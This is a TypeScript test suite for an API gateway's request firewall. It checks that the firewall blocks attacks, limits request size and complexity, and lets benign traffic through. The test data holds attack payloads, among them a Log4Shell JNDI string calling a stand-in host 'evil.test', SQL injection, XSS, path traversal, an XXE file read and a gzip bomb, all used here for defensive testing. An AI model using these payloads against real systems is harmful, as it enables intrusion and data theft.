import { randomBytes } from 'node:crypto';
import { monitorEventLoopDelay } from 'node:perf_hooks';
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import type { PoliciesInput } from '@parley/contracts/policies';
import { newId } from '@parley/kernel/id';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { api, apiKey, application, model, provider, publisher, restApi, subscription, upstream } from './documents.ts';
import { publishApplication, publishTenant } from './publish.ts';
import { completion, sendJson, startUpstream, type UpstreamServer } from './upstream-server.ts';
import { openWorld, type World } from './world.ts';

let world: World;
let backend: UpstreamServer;
let secret: string;
let base: string;

beforeAll(async () => {
  world = await openWorld();
  backend = await startUpstream((received, response) =>
    sendJson(
      response,
      200,
      received.url.includes('completions') ? completion('hello') : { size: received.body.length },
    ),
  );
  const pub = publisher(`shield-${newId().slice(-8)}`);
  const target = upstream(pub, backend.url);
  model(pub, provider(pub, backend.url).id, 'fast');
  const made = (slug: string, shield: NonNullable<PoliciesInput['shield']>) => {
    const one = restApi(pub, slug, target.id);
    for (const version of one.versions) version.policies = { shield };
    return one;
  };
  const small = { inspectBodyKb: 16, maxHeaders: 15, maxQueryParameters: 5, maxJsonDepth: 4, maxJsonKeys: 10 };
  const apis = [
    made('block', {}),
    made('report', { mode: 'report' }),
    made('spare', { excludedRules: ['xss.script'] }),
    made('small', { ...small, maxHeaderBytes: 500, maxDecompressedKb: 64 }),
  ];
  const llm = api(pub, 'llm', { kind: 'llm', models: ['fast'] });
  for (const version of llm.versions) version.policies = { shield: {} };
  const key = apiKey();
  secret = key.secret;
  base = `${world.url}/${pub.doc.slug}`;
  await publishTenant(world.redis, pub.doc);
  await publishApplication(
    world.redis,
    application(
      [...apis, llm].map((one) => subscription(pub, one)),
      [key.entry],
    ),
  );
});
beforeEach(() => {
  backend.received.length = 0;
});
afterAll(async () => {
  await world.close();
  await backend.close();
});

const call = (path: string, init: RequestInit = {}): Promise<Response> =>
  fetch(`${base}${path}`, { ...init, headers: { 'x-api-key': secret, ...(init.headers as Record<string, string>) } });
const post = (path: string, body: string | Buffer, type: string, headers: Record<string, string> = {}) =>
  call(path, { method: 'POST', body, headers: { 'content-type': type, ...headers } });
const json = (path: string, value: unknown) => post(path, JSON.stringify(value), 'application/json');

describe('a shield that blocks', () => {
  it('stops attacks in path, query and headers before the upstream, records them, and names no rule', async () => {
    const attacks = [
      await call('/block/v1/.git/config'),
      await call(`/block/v1/x?id=${encodeURIComponent("1' or '1'='1")}`),
      await call('/block/v1/x', { headers: { 'x-api-version': '${jndi:ldap://evil.test/a}' } }),
    ];
    for (const answer of attacks) {
      expect(answer.status).toBe(403);
      const text = await answer.text();
      expect(JSON.parse(text)).toMatchObject({ code: 'request_blocked' });
      expect(text).not.toMatch(/sqli|path\.|jndi/);
      expect(await world.event(answer.headers.get('x-request-id'))).toMatchObject({
        status: 403,
        code: 'request_blocked',
      });
    }
    expect(backend.received).toEqual([]);
  });

  it.each([
    ['JSON', 'application/json', '{"a":{"b":["<script>alert(1)</script>"]}}'],
    ['JSON that is none', 'application/json', '{"a": <script>alert(1)</script>'],
    ['a form', 'application/x-www-form-urlencoded', 'a=1&b=%3Cscript%3Ealert(1)%3C/script%3E'],
    [
      'a file name',
      'multipart/form-data; boundary=b',
      '--b\r\ncontent-disposition: form-data; name="f"; filename="../../../x.php"\r\n\r\nhi\r\n--b--\r\n',
    ],
    [
      'a part',
      'multipart/form-data; boundary=b',
      '--b\r\ncontent-disposition: form-data; name="f"\r\n\r\n<script>alert(1)\r\n--b--\r\n',
    ],
    ['XML', 'application/xml', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///x">]><x>&e;</x>'],
    ['text', 'text/plain', "1' union select 1,2--"],
  ])('stops attacks in a body of %s', async (_what, type, body) => {
    expect((await post('/block/v1/x', body, type)).status).toBe(403);
    expect(backend.received).toEqual([]);
  });

  it.each([
    ['gzip', gzipSync],
    ['deflate', deflateSync],
    ['br', brotliCompressSync],
  ])('looks into %s', async (coding, pack) => {
    const send = (value: string) =>
      post('/block/v1/x', pack(Buffer.from(JSON.stringify({ value }))), 'application/json', {
        'content-encoding': coding,
      });
    expect((await send('<script>')).status).toBe(403);
    expect((await send('good')).status).toBe(200);
  });

  it('leaves bytes that are no text alone, and passes every body on unchanged, small, large or in chunks', async () => {
    for (const size of [0, 10, 65_535, 65_536, 65_537, 900_000]) {
      const body = randomBytes(size);
      const answer = await post('/block/v1/x', body, 'application/octet-stream');
      expect(await answer.json(), String(size)).toEqual({ size });
      expect(backend.received.at(-1)?.body.equals(body), String(size)).toBe(true);
      expect((await world.event(answer.headers.get('x-request-id'))).requestBytes).toBe(size);
    }
    const text = JSON.stringify({ text: 'fine words '.repeat(50_000) });
    const chunks = new ReadableStream<Uint8Array>({
      start(controller) {
        for (let at = 0; at < text.length; at += 10_000) controller.enqueue(Buffer.from(text.slice(at, at + 10_000)));
        controller.close();
      },
    });
    const streamed = { method: 'POST', body: chunks, duplex: 'half', headers: { 'content-type': 'application/json' } };
    expect(await (await call('/block/v1/x', streamed as RequestInit)).json()).toEqual({ size: text.length });
    expect(backend.received.at(-1)?.body.toString()).toBe(text);
    // The part that is looked at is shorter here than what is read whole.
    expect(await (await post('/small/v1/x', randomBytes(40_000), 'image/png')).json()).toEqual({ size: 40_000 });
  });

  it('takes ordinary calls, and rules that are excluded', async () => {
    expect((await call("/block/v1/search?q=O'Brien+%26+sons")).status).toBe(200);
    expect((await json('/block/v1/x', { note: 'Please select one from the list; thanks' })).status).toBe(200);
    expect((await json('/spare/v1/x', { html: '<script>' })).status).toBe(200);
  });

  it('lets people talk about attacks with a model', async () => {
    const body = {
      model: 'fast',
      messages: [{ role: 'user', content: "Explain ' OR 1=1 -- and <script>alert(1)</script>" }],
    };
    expect((await json('/llm/v1/chat/completions', body)).status).toBe(200);
  });
});

describe('what a request may hold', () => {
  const deep = (levels: number): unknown => (levels === 0 ? 1 : { a: deep(levels - 1) });
  const headers = (count: number) => Object.fromEntries(Array.from({ length: count }, (_, i) => [`x-h${i}`, '1']));

  it('is bounded: headers, parameters, depth, fields, what a compressed body unpacks to', async () => {
    const bomb = gzipSync(Buffer.alloc(20 * 1024 * 1024));
    expect(bomb.length).toBeLessThan(32_768);
    const tooMuch = [
      [await call('/small/v1/x', { headers: headers(15) }), 'headers'],
      [await call('/small/v1/x', { headers: { 'x-long': 'a'.repeat(501) } }), 'longer than 500'],
      [await call('/small/v1/x?a=1&b=2&c=3&d=4&e=5&f=6'), 'query parameters'],
      [await json('/small/v1/x', deep(5)), 'deeper than 4'],
      [await json('/small/v1/x', Object.fromEntries(Array.from({ length: 11 }, (_, i) => [i, 1]))), 'fields'],
      [await post('/small/v1/x', bomb, 'application/json', { 'content-encoding': 'gzip' }), 'unpacks'],
      [await post('/small/v1/x', '{}', 'application/json', { 'content-encoding': 'compress' }), 'compressed'],
      [await post('/small/v1/x', '{}', 'application/json', { 'content-encoding': 'gzip' }), 'compressed'],
    ] as const;
    for (const [answer, word] of tooMuch) {
      expect(answer.status, word).toBe(400);
      expect(await answer.json()).toMatchObject({ code: 'request_too_complex', title: expect.stringContaining(word) });
    }
    expect(backend.received).toEqual([]);
    expect((await json('/small/v1/x', deep(4))).status).toBe(200);
    expect((await call('/small/v1/x?a=1&b=2&c=3&d=4&e=5')).status).toBe(200);
  });
});

it('only reports what it would block, in a header', async () => {
  const attack = await call('/report/v1/x?q=%3Cscript%3E');
  expect(attack.status).toBe(200);
  expect(attack.headers.get('x-parley-shield')).toBe('would block; score=5; threshold=5');
  expect((await call('/report/v1/x?q=good')).headers.get('x-parley-shield')).toBeNull();
});

it('keeps the event loop free while hostile bodies are looked at', async () => {
  const bodies = ["' or (", '{{ ${ ', '<a on', ';cat ', '/*', '(select a,'].map((piece) =>
    JSON.stringify({ text: piece.repeat(65_000 / piece.length / 1.2) }).slice(0, 65_000),
  );
  await json('/block/v1/x', { warm: 'up' });
  const delay = monitorEventLoopDelay({ resolution: 5 });
  delay.enable();
  for (const body of bodies) expect([200, 403]).toContain((await post('/block/v1/x', body, 'application/json')).status);
  delay.disable();
  // Nine of ten samples: a single pause can be a collection of garbage, or another process.
  expect(delay.percentile(90) / 1e6).toBeLessThan(50);
});
